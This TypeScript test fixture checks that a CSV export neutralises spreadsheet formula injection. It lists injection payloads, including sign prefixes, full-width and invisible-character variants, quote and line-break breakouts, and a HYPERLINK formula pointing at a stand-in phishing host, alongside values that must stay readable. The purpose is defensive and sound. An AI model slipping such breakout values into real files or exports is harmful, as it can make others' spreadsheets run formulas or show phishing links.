import {defineTable} from '../../support/evidence/table.js';

/** What the formulas of the corpus come to, and no text says. */
export const RESULT = '1337';

/** Texts that some spreadsheet works out. Each comes to {@link RESULT} there. */
export const formulas: Readonly<Record<string, string>> = {
  'equals sign': '=1336+1',
  'equals sign and a function': '=SUM(1336,1)',
  'equals sign and a link': '=HYPERLINK("https://phish.example/?"&1336,1336+1)',
  'plus sign': '+1336+1',
  'minus sign': '-1+1338',
  'at sign': '@SUM(1336,1)',
  'two signs': '+-1+1338',
  'phone number that is a sum': '+1338-1',
  'fraction with a sign': '+2674/2',
  'number that is a product': '-668.5*-2',
  'full-width equals sign': '＝1336+1',
  'full-width plus sign': '＋1336+1',
  'full-width minus sign': '－1+1338',
  'full-width at sign': '＠SUM(1336,1)',
  'tab first': '\t=1336+1',
  'carriage return first': '\r=1336+1',
  'line feed first': '\n=1336+1',
  'blanks first': '   =1336+1',
  'no-break space first': '\u00A0=1336+1',
  'zero-width space first': '\u200B+1336+1',
  'byte order mark first': '\uFEFF=1336+1',
  'direction mark first': '\u202E=1336+1',
  'null first': '\u0000=1336+1',
  'variation selector first': '\uFE0F=1336+1',
  'Hangul filler first': '\u3164=1336+1',
  'quotation mark that ends the cell': 'Lamp",=1336+1,"',
  'line break that ends the row': 'Lamp"\r\n=1336+1,"',
  'semicolon that ends the cell elsewhere': 'Lamp;=1336+1;',
  'tab that ends the cell elsewhere': 'Lamp\t+1336+1\t',
  'line break that ends the row elsewhere': 'Lamp\n-1+1338\n',
};

/** What must stay as it was written. */
export const readable: Readonly<Record<string, string>> = {
  'phone number': '+358 40 123',
  'phone number with brackets': '+1 (800) 555-1234',
  'phone number of the own country': '(09) 12-34',
  'negative number': '-12.5',
  'negative number with groups': '-1 234,50',
  'positive number': '+7',
  'number of a ticket': '#1042',
  'equals sign in the middle': 'a=b',
  smile: 'Works now ;-) thanks',
  'quotation marks and commas': 'He said "no", twice',
  'two lines': 'one\ntwo',
  'blanks around': ' kept ',
  'letters of all kinds': 'Ärger mit 照明 💡',
};

const formulaColumns = ['control: computed in a naive file', 'a parser finds text', 'Gnumeric computes nothing'] as const;
export const readableColumns = ['a parser finds it unchanged', 'Gnumeric shows it'] as const;

export const csvTable = defineTable({
  id: 'csv-cells',
  title: 'Cells of exported CSV files',
  about: `The export is a CSV file after RFC 4180. What customers write must not be worked out when a colleague opens it. Each
formula stands between two other cells; the file is read by [Papa Parse](https://www.papaparse.com), an independent parser, and opened
in a spreadsheet program, [Gnumeric](http://www.gnumeric.org), which tells what it has worked out.

- **Control**: written the naive way (joined by commas, or quoted as RFC 4180 asks and no more) the text is computed. Gnumeric takes a cell for a formula by its
  equals sign alone. Excel takes plus, minus and at signs too, programs set to Chinese or Japanese take full-width signs, and some skip blanks
  and what does not show; most of Europe separates cells by semicolons. For those the test puts a plain equals sign where such a program
  reads a formula, and Gnumeric computes it: ${RESULT} shows that nothing of it was harmless.
- **A parser** finds one cell in each place, whose text is the original but for apostrophes; no cell begins a formula for any of those
  programs, whether commas, semicolons or tabs separate cells.
- **Gnumeric** shows the text and computes nothing.

Numbers and phone numbers begin with the same signs and must stay readable: they come back as they were.`,
  rowHeading: 'What the customer has written',
  rows: [...Object.keys(formulas), ...Object.keys(readable)],
  columns: [...formulaColumns, ...readableColumns],
  notApplicable: [
    {rows: Object.keys(readable), columns: formulaColumns, reason: 'no formula, and none is made of it'},
    {rows: Object.keys(formulas), columns: readableColumns, reason: 'a formula; it gets an apostrophe'},
  ],
});
export const [CONTROL, PARSED, OPENED] = formulaColumns;
export const [UNCHANGED, SHOWN] = readableColumns;
